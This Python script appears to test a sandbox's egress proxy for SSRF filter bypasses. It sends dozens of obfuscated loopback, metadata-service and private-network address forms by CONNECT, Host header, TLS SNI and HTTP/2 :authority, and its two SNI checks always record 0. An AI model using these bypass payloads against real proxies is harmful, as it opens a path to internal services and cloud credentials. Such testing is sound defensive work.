"""Every way to write an address of the inside, by every way in which a name reaches the proxy.

Prints one line of JSON for each attempt: the way, the form, and what came back first (0: no answer).
"""

import json
import socket
import ssl
import struct

import h2.config
import h2.connection
import h2.events

PROXY = ("127.0.0.1", 3128)
PUBLIC = "93.184.216.34"
FORMS = [
    # loopback
    "127.0.0.1", "127.1", "127.0.1", "127.255.255.254", "0177.0.0.1", "017700000001", "0x7f.0.0.1", "0x7f000001", "0X7F.1", "2130706433",
    "127.0.0.1.", "0.0.0.0", "0", "[::]", "[::1]", "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
    "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[64:ff9b:1::7f00:1]", "[2002:7f00:1::]", "[::1%25lo]", "[::1%lo]",
    "localhost", "LOCALHOST", "localhost.", "a.localhost", "ip6-localhost", "[localhost]", "[127.0.0.1]",
    "127.0.0.%31", "%6cocalhost", "\uff11\uff12\uff17.0.0.1", "127\u30020\u30020\u30021", "\uff4c\uff4f\uff43\uff41\uff4c\uff48\uff4f\uff53\uff54",
    "xn--localhost-", "127.0.0.1\x00.example.com", "api.example.com\x00.127.0.0.1", "user@127.0.0.1", "api.example.com@127.0.0.1",
    # the pod itself
    "10.77.0.2", "[fd77::2]", "[::ffff:10.77.0.2]",
    # metadata and private networks
    "169.254.169.254", "0xa9fea9fe", "2852039166", "0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::]", "[fd00:ec2::254]", "[FD00:EC2:0::254]",
    "169.254.169.254.", "metadata.google.internal", "10.0.0.1", "10.1", "0xa000001", "167772161", "012.0.0.1", "[::ffff:10.0.0.1]",
    "[2002:a00:1::]", "[64:ff9b::a00:1]", "100.64.0.1", "192.168.0.1", "172.16.0.1", "[fe80::1]", "[fe80::1%25p0]",
    # names that the world's DNS answers with addresses of the inside
    "rebind.example.com", "REBIND.EXAMPLE.COM.", "mixed.example.com", "x" * 300, "x" * 300 + ".127.0.0.1",
]


def told(way, form, status):
    print(json.dumps({"way": way, "form": form, "status": status}), flush=True)


def status(connection):
    try:
        first = connection.recv(65536)
        return int(first.split()[1]) if first.startswith(b"HTTP/") else 0
    except (OSError, ValueError, IndexError):
        return 0


def sent(address, data):
    with socket.create_connection(address, timeout=10) as plain:
        try:
            plain.sendall(data)
        except OSError:
            return 0
        return status(plain)


def hello(name):
    """A ClientHello of TLS 1.2 that carries these very bytes as server name (RFC 5246, RFC 6066)."""
    vector = lambda size, data: len(data).to_bytes(size, "big") + data
    extension = lambda kind, data: struct.pack(">H", kind) + vector(2, data)
    extensions = extension(0, vector(2, b"\x00" + vector(2, name)))
    extensions += extension(10, vector(2, b"\x00\x17\x00\x1d")) + extension(11, vector(1, b"\x00"))
    extensions += extension(13, vector(2, b"\x04\x03\x08\x04\x04\x01")) + extension(23, b"")
    extensions += extension(16, vector(2, vector(1, b"http/1.1")))
    body = b"\x03\x03" + bytes(range(32)) + vector(1, b"") + vector(2, b"\xc0\x2b\xc0\x2f") + vector(1, b"\x00")
    body += vector(2, extensions)
    return b"\x16\x03\x01" + vector(2, b"\x01" + vector(3, body))


def tunnel(host, port):
    plain = socket.create_connection(PROXY, timeout=10)
    plain.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    assert status(plain) == 200
    return plain


def authority(form):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    with context.wrap_socket(tunnel("api.example.com", 9443), server_hostname="api.example.com") as tls:
        configuration = h2.config.H2Configuration(
            validate_outbound_headers=False, normalize_outbound_headers=False, header_encoding=None)
        machine = h2.connection.H2Connection(configuration)
        machine.initiate_connection()
        machine.send_headers(1, [
            (b":method", b"GET"), (b":scheme", b"https"), (b":authority", form), (b":path", b"/")], end_stream=True)
        try:
            tls.sendall(machine.data_to_send())
            while data := tls.recv(65536):
                for event in machine.receive_data(data):
                    if isinstance(event, h2.events.ResponseReceived):
                        return int(dict(event.headers)[b":status"])
                    if isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                        return 0
                tls.sendall(machine.data_to_send())
        except OSError:
            pass
    return 0


def main():
    for form in FORMS:
        name = form.encode()
        for port in (80, 15000, 15001, 3128):
            suffix = b":%d" % port
            told(f"CONNECT :{port}", form, sent(PROXY, b"CONNECT " + name + suffix + b" HTTP/1.1\r\nHost: " + name + suffix + b"\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n"))
        told("absolute form", form, sent(PROXY, b"GET http://" + name + b"/ HTTP/1.1\r\nHost: " + name + b"\r\n\r\n"))
        told("Host beside a URI", form, sent(PROXY, b"GET http://api.example.com/ HTTP/1.1\r\nHost: " + name + b"\r\n\r\n"))
        told("Host, redirected", form, sent((PUBLIC, 80), b"GET / HTTP/1.1\r\nHost: " + name + b"\r\n\r\n"))
        bare = name.strip(b"[]")
        sent((PUBLIC, 443), hello(bare))
        told("SNI, redirected", form, 0)
        with tunnel("api.example.com", 443) as plain:
            plain.sendall(hello(bare))
            status(plain)
        told("SNI in a tunnel", form, 0)
        told(":authority", form, authority(name))


main()
